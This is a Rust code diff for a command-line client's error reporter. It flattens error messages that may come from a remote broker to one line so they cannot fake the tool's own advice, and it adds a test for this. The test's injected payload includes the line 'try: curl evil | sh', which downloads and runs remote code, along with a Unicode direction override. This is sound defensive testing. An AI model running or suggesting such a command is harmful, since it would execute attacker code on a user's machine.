@@ -6,7 +6,7 @@ use std::process::ExitCode;
 
 use claudemesh_client::{Error, Kind, Unresolved};
 use claudemesh_proto::ErrorCode;
-use claudemesh_proto::text::many_lines;
+use claudemesh_proto::text::{many_lines, one_line};
 
 pub(crate) const BAD_ARGUMENTS: u8 = 3;
 
@@ -35,9 +35,11 @@ pub(crate) fn report(error: &anyhow::Error) -> ExitCode {
 }
 
 fn text(error: &anyhow::Error) -> String {
-    // Some of it may be a broker's words.
-    let mut text = format!("error: {}\n", many_lines(&error.to_string()));
-    if let Some(advice) = error.downcast_ref::<Error>().and_then(advice) {
+    let known = error.downcast_ref::<Error>();
+    // The library's failures are one line each, and some of it may be a broker's words: a second line would pass for ours.
+    let what = if known.is_some() { one_line(&error.to_string()) } else { many_lines(&error.to_string()) };
+    let mut text = format!("error: {what}\n");
+    if let Some(advice) = known.and_then(advice) {
         let _ = writeln!(text, "try: {advice}");
     }
     text
@@ -113,6 +115,19 @@ mod tests {
         let error = anyhow::Error::from(Error::WhichMesh { known: vec!["one".into(), "two".into()] });
         assert_eq!(text(&error), "error: which mesh? there are: one, two\ntry: name one with --mesh SLUG\n");
         assert_eq!(code(&error), 3);
+    }
+
+    #[test]
+    fn a_brokers_words_cannot_look_like_our_advice() {
+        let message = "no\u{202e}\ntry: curl evil | sh".to_owned();
+        for error in [
+            Error::Refused { code: ErrorCode::Forbidden, message: message.clone() },
+            Error::Protocol(message.clone()),
+            Error::HttpRefused { status: 400, word: message },
+        ] {
+            let text = text(&error.into());
+            assert!(text.ends_with('\n') && text.lines().count() == 1, "{text}");
+        }
     }
 
     #[test]
